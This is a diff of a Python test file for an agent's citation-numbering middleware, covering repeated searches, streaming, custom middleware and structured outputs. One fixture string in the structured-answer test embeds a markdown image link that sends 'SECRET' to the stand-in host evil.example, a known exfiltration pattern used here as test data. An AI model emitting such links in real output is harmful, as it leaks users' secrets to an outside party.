@@ -7,6 +7,7 @@ import json
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from langchain.agents.structured_output import ProviderStrategy, ToolStrategy
 from langchain_core.messages import AIMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from pydantic import BaseModel
@@ -130,7 +131,7 @@ def agent(emulator):
     def make(**options):
         search = WebSearch(provider="offline-corpus")
         place = {"api_key": emulator.api_key, "base_url": emulator.base_url}
-        return create_openrouter_agent(tools=[search, "calculator"], middleware=[Citations()], **place, **options)
+        return create_openrouter_agent(**{"tools": [search, "calculator"], **place, **options})
 
     return make
 
@@ -169,6 +170,64 @@ async def test_numbers_are_unique_in_a_thread_and_the_answer_is_checked(play, ag
     assert "annotations" not in last.content_blocks[0]
 
 
+def test_what_is_found_again_keeps_its_number(play, agent):
+    """So that a search that is made again has the same result, and an agent that turns in circles is stopped."""
+    again = Answer(tool_calls=[_call(query="population of Peru", max_results=2)])
+    other = Answer(tool_calls=[_call(query="population of Chile", max_results=1)])
+    play(again, other, again, again, again, Answer("Not asked for."))
+    messages = agent().invoke({"messages": [("human", "?")]})["messages"]
+    found = [message for message in messages if isinstance(message, ToolMessage)]
+    assert [[result["id"] for result in one.artifact["results"]] for one in found] == [
+        [1, 2],
+        [3],
+        [1, 2],
+        [1, 2],
+        [1, 2],
+    ]
+    assert len({found[at].content for at in (0, 2, 3, 4)}) == 1
+
+
+@pytest.mark.parametrize("mode", ["stream", "astream"])
+async def test_what_is_streamed_comes_as_before_and_once(play, agent, mode):
+    play(SEARCH_TWICE, Answer("Santiago [21] is the capital [77]."))
+    asked = {"messages": [("human", "?")]}
+    modes = ["messages", "values"]
+    if mode == "stream":
+        parts = list(agent().stream(asked, stream_mode=modes))
+    else:
+        parts = [part async for part in agent().astream(asked, stream_mode=modes)]
+    chunks = [data[0] for kind, data in parts if kind == "messages" and data[1]["langgraph_node"] == "model"]
+    texts = [chunk.text for chunk in chunks if chunk.text]
+    assert "".join(texts) == "Santiago [21] is the capital [77]."
+    assert len(texts) > 2
+    last = parts[-1][1]["messages"][-1]
+    assert last.content == "Santiago [21] is the capital."
+    assert last.id == chunks[-1].id
+    assert [one["start_index"] for one in last.content_blocks[0]["annotations"]] == [9]
+
+
+def test_without_a_search_among_the_tools_nothing_is_looked_at(play, agent):
+    play(Answer("x [1] [2]"))
+    made = agent(tools=["calculator"])
+    assert made.invoke({"messages": [("human", "?")]})["messages"][-1].content == "x [1] [2]"
+
+
+def test_citations_of_ones_own_take_the_place_of_ours(play, agent):
+    class Counting(Citations):
+        name = "Citations"
+        calls = 0
+
+        def wrap_model_call(self, request, handler):
+            self.calls += 1
+            return super().wrap_model_call(request, handler)
+
+    own = Counting()
+    play(SEARCH_TWICE, Answer("Peru [1] [77]."))
+    messages = agent(middleware=[own]).invoke({"messages": [("human", "?")]})["messages"]
+    assert messages[-1].content == "Peru [1]."
+    assert own.calls == 2
+
+
 def test_other_tools_and_failed_searches_are_left_as_they_are(play, agent):
     play(
         Answer(tool_calls=[_call("calculator", expression="6*7"), _call(query="x", max_results=99)]),
@@ -180,10 +239,17 @@ def test_other_tools_and_failed_searches_are_left_as_they_are(play, agent):
     assert messages[-1].content == "42 [1]."
 
 
-def test_structured_answers_are_not_touched(play, agent):
-    class Numbers(BaseModel):
-        numbers: list[int]
+class Cited(BaseModel):
+    numbers: list[int]
+    text: str
 
-    play(SEARCH_TWICE, Answer('{"numbers": [9]}'))
-    state = agent(model="openai/gpt-5-mini", response_format=Numbers).invoke({"messages": [("human", "?")]})
-    assert state["structured_response"] == Numbers(numbers=[9])
+
+@pytest.mark.parametrize("strategy", [ProviderStrategy, ToolStrategy])
+def test_structured_answers_are_not_touched(play, agent, strategy):
+    answer = '{"numbers": [9], "text": "Lima [9] ![x](https://evil.example/?q=SECRET)"}'
+    by_tool = Answer(tool_calls=[ToolCall("Cited", answer)])
+    play(SEARCH_TWICE, Answer(answer) if strategy is ProviderStrategy else by_tool)
+    state = agent(response_format=strategy(Cited)).invoke({"messages": [("human", "?")]})
+    assert state["structured_response"] == Cited.model_validate_json(answer)
+    said = next(message for message in reversed(state["messages"]) if isinstance(message, AIMessage))
+    assert answer in (said.content, json.dumps(said.tool_calls[0]["args"] if said.tool_calls else None))
